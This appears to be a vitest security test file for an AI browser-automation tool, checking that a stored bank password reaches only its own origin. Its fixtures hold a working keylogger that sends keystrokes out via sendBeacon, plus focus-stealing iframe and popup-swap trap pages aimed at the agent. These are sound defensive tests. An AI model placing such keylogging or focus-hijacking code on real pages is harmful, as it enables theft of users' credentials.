import { servePages } from '@btcp/test-support';
import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import { freshBrowser } from './fresh-browser.ts';

const SECRET = 'Canary-Secret-Value-42';

/** What other origins got to see. */
const stolen: string[] = [];

const LOGIN = `<title>Bank</title><form action="/signed-in"><label>Password <input id="password"></label></form>`;
const NOTE = `const note = (text) => navigator.sendBeacon('/stolen', text);
  addEventListener('keydown', ({ key }) => note(key), true);
  addEventListener('input', ({ target }) => note(target.value ?? target.textContent), true);`;

const bank = await servePages({
  '/': LOGIN,
  '/shouting': `${LOGIN}<script>password.oninput = () => { password.value = password.value.slice(1) + '!'; };</script>`,
  '/signed-in': '<title>Signed in</title>',
});
/** By another name, so that it is of another site than the other pages. */
const bankOrigin = bank.origin.replace('127.0.0.1', 'localhost');

const evil = await servePages({
  '/frames': `<title>Evil</title><input id="trap"><iframe src="${bankOrigin}/" width="400" height="200"></iframe>
    <script>${NOTE}
      const steal = () => trap.focus();
      addEventListener('blur', () => setTimeout(steal, 100));
    </script>`,
  '/opener': `<title>Evil</title><button onclick="
    const popup = open('${bankOrigin}/', 'bank', 'popup');
    setTimeout(() => { popup.location = '/trap'; }, 700);">Sign in</button>`,
  '/trap': `<title>Trap</title><input id="trap" autofocus><script>${NOTE} setInterval(() => trap.focus(), 1);</script>`,
  '/stolen': (request, response) => {
    let text = '';
    request.on('data', (data) => (text += data)).on('end', () => stolen.push(text));
    response.end();
  },
});

const { call } = freshBrowser({}, { secrets: { bank: { value: SECRET, origin: bankOrigin } } });

beforeEach(() => {
  stolen.length = 0;
});
afterAll(async () => {
  await bank.close();
  await evil.close();
});

const refOf = async (name: string) => {
  const { text } = await call('browser_snapshot');
  return `@${new RegExp(`${name}.*@(\\w+)`).exec(text)?.[1]}`;
};

describe('a secret reaches its origin or nobody (T12)', () => {
  test('browser_type sends no keys to a page that frames the login and takes the focus', async () => {
    await call('browser_navigate', { url: `${evil.origin}/frames` });
    const selector = await refOf('textbox "Password"');
    expect(selector).toMatch(/^@f/);
    await call('browser_type', { selector, text: 'secret:bank', delay: 30 }).catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(stolen.join('')).toBe('');
  });

  test('browser_type sends nothing to the page that takes the place of the login meanwhile', async () => {
    await call('browser_navigate', { url: `${evil.origin}/opener` });
    await call('browser_click', { selector: 'button' });
    await call('browser_tabs', { action: 'select', tab: 't2' });
    const { text } = await call('browser_type', { selector: '#password', text: 'secret:bank', delay: 50 });
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    expect(stolen.join('')).toBe('');
    expect(text).not.toMatch(/anary|Secret-V/);
  });

  test.each(['browser_type', 'browser_fill'])('%s says nothing of what a page makes of it', async (tool) => {
    await call('browser_navigate', { url: `${bankOrigin}/shouting` });
    const value = tool === 'browser_type' ? { text: 'secret:bank' } : { value: 'secret:bank' };
    const { text, data } = await call(tool, { selector: '#password', ...value });
    const read = await call('browser_evaluate', { script: 'document.querySelector("#password").value' });
    const snapshot = await call('browser_snapshot');
    expect(JSON.stringify([text, data, read, snapshot])).not.toMatch(/anary|cret-V|alue-4/);
  });

  test('browser_type still signs in, with the key at the end', async () => {
    await call('browser_navigate', { url: `${bankOrigin}/` });
    await call('browser_type', { selector: '#password', text: 'secret:bank', submit: true });
    await call('browser_wait_for', { url: '**/signed-in*' });
    expect((await call('browser_tabs')).page).toMatchObject({ title: 'Signed in' });
  });
});
